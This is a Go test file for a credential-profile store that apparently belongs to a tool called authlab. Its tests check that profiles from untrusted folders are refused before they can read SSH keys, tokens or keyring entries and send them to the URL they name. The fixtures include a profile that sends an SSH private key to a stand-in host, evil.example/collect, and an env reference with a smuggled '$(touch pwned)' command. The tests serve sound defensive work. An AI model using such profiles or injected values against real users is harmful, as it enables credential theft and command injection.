package profiles

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// shared writes a workshop folder holding profile text and returns a
// store on it with the given trust.
func sharedStore(t *testing.T, trusted bool, files map[string]string) *Store {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "workshop")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(dir, name+".toml"), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	s := NewStore(dir)
	s.Trusted = trusted
	return s
}

const exfil = `url = "https://evil.example/collect"
scheme = "basic"
[fields]
username = "demo"
password = "file:~/.ssh/id_ed25519"
`

// TestUntrustedFolderRefsRefused is leak 2 of issue #16: a profile from a
// folder the user did not trust must not read a file, variable or keyring
// entry and send it to the URL it names. Resolve refuses before reading
// anything (the resolver's seams fail the test if called).
func TestUntrustedFolderRefsRefused(t *testing.T) {
	tests := []struct {
		name, text string
		trusted    bool
		wantRefs   []string // "field ref" pairs; nil: resolves
	}{
		{"file ref", exfil, false, []string{"field password file:~/.ssh/id_ed25519"}},
		{"env ref", "url = 'https://evil.example/'\nscheme = 'bearer'\n[fields]\ntoken = 'env:GITHUB_TOKEN'\n", false, []string{"field token env:GITHUB_TOKEN"}},
		{"keyring ref", "url = 'https://evil.example/'\nscheme = 'bearer'\n[fields]\ntoken = 'keyring:github'\n", false, []string{"field token keyring:github"}},
		{"key passphrase", "url = 'https://evil.example/'\n[tls]\ncert = 'c.pem'\nkey = 'k.pem'\nkey_password = 'env:KEYPASS'\n", false, []string{"tls.key_password env:KEYPASS"}},
		{"literal and prompt work at once", "url = 'https://demo.example/'\nscheme = 'basic'\n[fields]\nusername = 'demo'\npassword = 'prompt'\n", false, nil},
		{"trusted folder", exfil, true, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := sharedStore(t, tt.trusted, map[string]string{"p": tt.text})
			e, err := s.Load("p")
			if err != nil {
				t.Fatalf("Load = %v", err)
			}
			p := *e.Profile
			var got []string
			for _, r := range p.UntrustedRefs() {
				got = append(got, r.Field+" "+r.Ref)
				if r.Host != hostOf(p.URL) {
					t.Errorf("UntrustedRef.Host = %q; want %q", r.Host, hostOf(p.URL))
				}
			}
			if !slices.Equal(got, tt.wantRefs) {
				t.Errorf("UntrustedRefs() = %q; want %q", got, tt.wantRefs)
			}
			read := false
			r := Resolver{
				LookupEnv: func(string) (string, bool) { read = true; return "SECRET", true },
				ReadFile:  func(string) ([]byte, error) { read = true; return []byte("SECRET"), nil },
				Prompt:    func(string) (string, error) { return "typed", nil },
			}
			_, err = Resolve(context.Background(), p, r, Policy{Prompt: true})
			var ue *UntrustedError
			if tt.wantRefs == nil {
				if err != nil && errors.As(err, &ue) {
					t.Fatalf("Resolve = %v; want no trust error", err)
				}
				return
			}
			if !errors.As(err, &ue) {
				t.Fatalf("Resolve = %v; want an *UntrustedError", err)
			}
			if read && tt.name != "key passphrase" { // Resolve resolves fields only
				t.Errorf("Resolve read a reference before refusing")
			}
			msg := err.Error()
			fix := "authlab trust " + shellQuote(s.Dir)
			if !strings.Contains(msg, fix) || !strings.Contains(msg, s.Dir) || strings.Contains(msg, "\n") {
				t.Errorf("Resolve error = %q; want one line naming the folder and %q", msg, fix)
			}
			if err := p.CheckTrust(); err == nil {
				t.Errorf("CheckTrust() = nil; want the same refusal")
			}
		})
	}
}

// TestTypedOverIsUsersOwn: a value the user typed over the file's (a -c
// flag, an edit in the TUI) resolves; moving the file's reference to
// another field does not launder it.
func TestTypedOverIsUsersOwn(t *testing.T) {
	s := sharedStore(t, false, map[string]string{"p": exfil})
	e, err := s.Load("p")
	if err != nil {
		t.Fatal(err)
	}
	p := *e.Profile
	p.Fields = map[string]string{"username": "demo", "password": "env:MY_OWN"}
	if refs := p.UntrustedRefs(); len(refs) != 0 {
		t.Errorf("UntrustedRefs() after typing over = %v; want none", refs)
	}
	p.Fields = map[string]string{"username": "file:~/.ssh/id_ed25519", "password": "x"}
	if refs := p.UntrustedRefs(); len(refs) != 1 {
		t.Errorf("UntrustedRefs() after moving the reference = %v; want it still untrusted", refs)
	}
}

func TestTrustFile(t *testing.T) {
	cfg := t.TempDir()
	tr, err := DefaultTrust(func(k string) (string, bool) {
		if k == "XDG_CONFIG_HOME" {
			return cfg, true
		}
		return "", false
	})
	if err != nil {
		t.Fatal(err)
	}
	if want := filepath.Join(cfg, "authlab", "trusted"); tr.Path != want {
		t.Errorf("DefaultTrust().Path = %q; want %q", tr.Path, want)
	}
	if ok, err := tr.Trusted(tr.Own); !ok || err != nil {
		t.Errorf("Trusted(own folder) = %v, %v; want true", ok, err)
	}
	shop := filepath.Join(t.TempDir(), "shop")
	os.Mkdir(shop, 0o700)
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(shop, link); err != nil {
		t.Fatal(err)
	}
	if ok, _ := tr.Trusted(shop); ok {
		t.Errorf("Trusted(%q) before Allow = true", shop)
	}
	if err := tr.Allow(link); err != nil {
		t.Fatalf("Allow(%q) = %v", link, err)
	}
	for _, d := range []string{shop, link, shop + "/"} {
		if ok, err := tr.Trusted(d); !ok || err != nil {
			t.Errorf("Trusted(%q) after Allow = %v, %v; want true", d, ok, err)
		}
	}
	real, _ := filepath.EvalSymlinks(shop)
	if list, _ := tr.List(); !slices.Equal(list, []string{real}) {
		t.Errorf("List() = %q; want [%q] (links resolved)", list, real)
	}
	if fi, err := os.Stat(tr.Path); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("trust file mode = %v, %v; want 0600", fi.Mode(), err)
	}
	if err := tr.Allow(shop); err != nil {
		t.Fatal(err)
	}
	if list, _ := tr.List(); len(list) != 1 {
		t.Errorf("List() after a second Allow = %q; want one entry", list)
	}
	// A folder others can write to is never trusted, even when listed.
	if err := os.Chmod(shop, 0o777); err != nil {
		t.Fatal(err)
	}
	if ok, _ := tr.Trusted(shop); ok {
		t.Errorf("Trusted(mode 0777 folder) = true; want false")
	}
	other := filepath.Join(t.TempDir(), "open")
	os.Mkdir(other, 0o700)
	os.Chmod(other, 0o775)
	if err := tr.Allow(other); err == nil || !strings.Contains(err.Error(), "chmod go-w") {
		t.Errorf("Allow(mode 0775 folder) = %v; want a refusal naming chmod go-w", err)
	}
	os.Chmod(shop, 0o700)
	if found, err := tr.Revoke(link); !found || err != nil {
		t.Errorf("Revoke = %v, %v; want true", found, err)
	}
	if ok, _ := tr.Trusted(shop); ok {
		t.Errorf("Trusted after Revoke = true")
	}
	if found, _ := tr.Revoke(shop); found {
		t.Errorf("Revoke of a folder not listed = true")
	}
}

// TestEnvNames is leak 1 of issue #16: only POSIX portable names
// (POSIX.1-2017 XBD §8.1) follow env:.
func TestEnvNames(t *testing.T) {
	tests := []struct {
		ref string
		ok  bool
	}{
		{"env:GITHUB_TOKEN", true},
		{"env:_x1", true},
		{"env:a", true},
		{"env:T}$(touch pwned)", false},
		{"env:1X", false},
		{"env:A-B", false},
		{"env:A B", false},
		{"env:Ä", false},
		{"env:", false},
		{"file:", false},
		{"keyring:", false},
		{"file:~/x", true},
		{"literal $(x)", true},
		{"prompt", true},
	}
	for _, tt := range tests {
		if err := CheckRef(tt.ref); (err == nil) != tt.ok {
			t.Errorf("CheckRef(%q) = %v; want ok=%v", tt.ref, err, tt.ok)
		}
	}
	r := Resolver{LookupEnv: func(string) (string, bool) { t.Error("LookupEnv called for a bad name"); return "", true }}
	if _, _, err := r.Resolve("token", "env:T}$(touch pwned)"); err == nil {
		t.Errorf("Resolve(env:T}$(touch pwned)) = nil error; want a refusal")
	}
}

// TestLoadRefusesBadEnvName: a profile whose field names a non-POSIX
// variable does not load; the error names the line and the field.
func TestLoadRefusesBadEnvName(t *testing.T) {
	text := "url = 'https://x.example/'\nscheme = 'bearer'\n\n[fields]\ntoken = 'env:T}$(touch pwned)'\n"
	s := sharedStore(t, true, map[string]string{"p": text})
	_, err := s.Load("p")
	var pe *ParseError
	if !errors.As(err, &pe) || pe.Line != 5 || !strings.Contains(pe.Msg, "field token") {
		t.Fatalf("Load = %v; want a ParseError on line 5 naming field token", err)
	}
	es, _ := s.List()
	if len(es) != 1 || es[0].Err == nil {
		t.Errorf("List() = %+v; want the file listed as broken", es)
	}
}
